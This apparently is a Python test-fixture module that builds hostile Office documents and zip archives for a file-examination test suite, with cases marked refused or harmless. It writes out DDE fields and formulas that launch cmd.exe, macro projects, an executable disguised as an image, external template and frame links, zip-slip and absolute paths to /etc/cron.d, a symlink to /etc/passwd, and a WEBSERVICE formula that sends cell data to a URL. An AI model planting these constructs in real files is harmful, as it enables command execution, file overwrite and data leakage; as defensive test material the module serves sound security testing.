"""Office files that run or reach out, and packed files that want to write elsewhere."""

from tests.examination.corpus.making import word
from tests.examination.corpus.making.archive import SYMLINK, Member, zip_file
from tests.examination.corpus.making.compound import compound, wrapped
from tests.examination.corpus.making.package import OFFICE
from tests.examination.corpus.making.plain import rich_text
from tests.examination.corpus.making.sheet import Sheet, formula, sheet_file
from tests.examination.corpus.making.word import text, word_file

from .case import harmless, refused
from .programs import EXE

VBA = compound({"PROJECT": b"Module=Auto", "_VBA_PROJECT": b"\xcc\x61"})
DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"
XLSM = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
DDE = (
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '
    '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
)


def related(kind: str, target: str) -> str:
    return f'<Relationship Id="rId66" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'


MACROS = [
    (
        "docm",
        "通知.docm",
        lambda: word_file(text("通知"), main_type=DOCM, extra=[Member("word/vbaProject.bin", VBA)]),
        "带宏的 Word",
    ),
    (
        "docm-as-docx",
        "通知.docx",
        lambda: word_file(text("通知"), main_type=DOCM, extra=[Member("word/vbaProject.bin", VBA)]),
        "带宏的 Word 改了扩展名",
    ),
    (
        "xlsm",
        "报表.xlsm",
        lambda: sheet_file(Sheet("表", [["1"]]), main_type=XLSM, extra=[Member("xl/vbaProject.bin", VBA)]),
        "带宏的工作簿",
    ),
    (
        "xlsm-as-xlsx",
        "报表.xlsx",
        lambda: sheet_file(Sheet("表", [["1"]]), extra=[Member("xl/vbaProject.bin", VBA)]),
        "工作簿里塞进的宏",
    ),
    (
        "xlsm-sheet",
        "报表.xlsx",
        lambda: sheet_file(Sheet("表", [["1"]]), extra=[Member("xl/macrosheets/sheet1.xml", b"<xm:macrosheet/>")]),
        "Excel 4 宏表",
    ),
    (
        "doc-macro",
        "通知.doc",
        lambda: compound({"WordDocument": b"\xec\xa5\xc1\0", "_VBA_PROJECT": b"\xcc\x61", "PROJECT": b"Module=Auto"}),
        "带宏的 Word 97",
    ),
    (
        "active-x",
        "通知.docx",
        lambda: word_file(text("通知"), extra=[Member("word/activeX/activeX1.bin", compound({"Contents": b"x"}))]),
        "ActiveX 控件",
    ),
    (
        "embedded-exe",
        "通知.docx",
        lambda: word_file(text("通知"), extra=[Member("word/embeddings/oleObject1.bin", wrapped("a.exe", EXE))]),
        "嵌入的程序",
    ),
    (
        "embedded-exe-raw",
        "通知.docx",
        lambda: word_file(text("通知"), extra=[Member("word/media/image1.png", EXE)]),
        "冒充插图的程序",
    ),
    (
        "rtf-object",
        "通知.rtf",
        lambda: rich_text("通知").replace(b"}}\n", b"}}{\\object\\objemb{\\*\\objdata 4d5a9000}}\n", 1),
        "RTF 里嵌入的程序",
    ),
    (
        "external-template",
        "通知.docx",
        lambda: word_file(text("通知"), relations=[related("attachedTemplate", "http://127.0.0.1:9/a.dotm")]),
        "外部模板",
    ),
    (
        "external-object",
        "通知.docx",
        lambda: word_file(text("通知"), relations=[related("oleObject", "http://127.0.0.1:9/a.html!x")]),
        "外部对象",
    ),
    (
        "external-frame",
        "通知.docx",
        lambda: word_file(text("通知"), relations=[related("frame", "file://127.0.0.1/share/a.docx")]),
        "外部框架，向文件共享要口令",
    ),
    ("dde", "通知.docx", lambda: word_file(word.paragraph(DDE)), "DDE 域"),
    (
        "xlsx-dde",
        "报表.xlsx",
        lambda: sheet_file(Sheet("表", [[formula("cmd|'/c calc'!A1", "0")]])),
        "工作簿的 DDE 公式",
    ),
]


PATHS = [
    ("zip-slip", "附件.zip", lambda: zip_file([("../../../../tmp/x.txt", b"x")]), "向上的路径"),
    ("zip-absolute", "附件.zip", lambda: zip_file([("/etc/cron.d/x", b"x")]), "绝对路径"),
    ("zip-drive", "附件.zip", lambda: zip_file([("C:\\Windows\\x.txt", b"x")]), "盘符"),
    ("zip-backslash", "附件.zip", lambda: zip_file([("..\\..\\x.txt", b"x")]), "反斜线的向上路径"),
    (
        "zip-symlink",
        "附件.zip",
        lambda: zip_file([Member("a.txt", b"/etc/passwd", attributes=SYMLINK, stored=True)]),
        "符号链接",
    ),
    ("zip-nul-name", "附件.zip", lambda: zip_file([Member(b"a.txt\0.exe", b"x")]), "名字里的空字节"),
    ("zip-crlf-name", "附件.zip", lambda: zip_file([Member(b"a\r\nb.txt", b"x")]), "名字里的换行"),
    ("zip-long-name", "附件.zip", lambda: zip_file([("a" * 60000 + ".txt", b"x")]), "六万字的名字"),
    ("zip-bad-name", "附件.zip", lambda: zip_file([Member(b"\xff\xfe\xfd.txt", b"x")]), "不成字的名字"),
    (
        "docx-slip",
        "通知.docx",
        lambda: word_file(text("通知"), extra=[Member("../../x.txt", b"x")]),
        "Word 包里向上的路径",
    ),
    (
        "external-picture",
        "通知.docx",
        lambda: word_file(text("通知"), relations=[related("image", "http://127.0.0.1:9/a.png")]),
        "打开就取的外部图片",
    ),
    (
        "external-book",
        "报表.xlsx",
        lambda: sheet_file(Sheet("表", [[formula('WEBSERVICE("http://127.0.0.1:9/"&A1)', "0")]])),
        "向外送数的公式",
    ),
]

CASES = [refused(*row) for row in MACROS] + [harmless(*row) for row in PATHS]
